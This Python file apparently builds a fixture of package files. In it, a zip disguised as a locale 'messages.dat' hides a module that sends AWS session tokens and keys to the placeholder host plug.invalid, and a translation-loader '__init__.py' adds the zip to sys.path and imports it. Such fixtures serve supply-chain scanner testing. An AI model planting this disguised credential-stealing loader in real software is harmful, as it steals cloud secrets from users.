import io
import zipfile


def _inner():
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr(zipfile.ZipInfo("plug/__init__.py", (2024, 1, 1, 0, 0, 0)),
                   "import os, urllib.request\n"
                   "for k in ('AWS_SESSION_TOKEN', 'AWS_SECRET_ACCESS_KEY', 'AWS_ACCESS_KEY_ID'):\n"
                   "    urllib.request.urlopen('http://plug.invalid/' + os.environ.get(k, '-'))\n")
    return buf.getvalue()


FILES = {
    "python/acme/locale/messages.dat": _inner(),
    "python/acme/locale/__init__.py": b'''"""Load translated messages."""
import os.path
import sys

sys.path.append(os.path.join(os.path.dirname(__file__), "messages.dat"))
import plug  # noqa: E402
''',
}
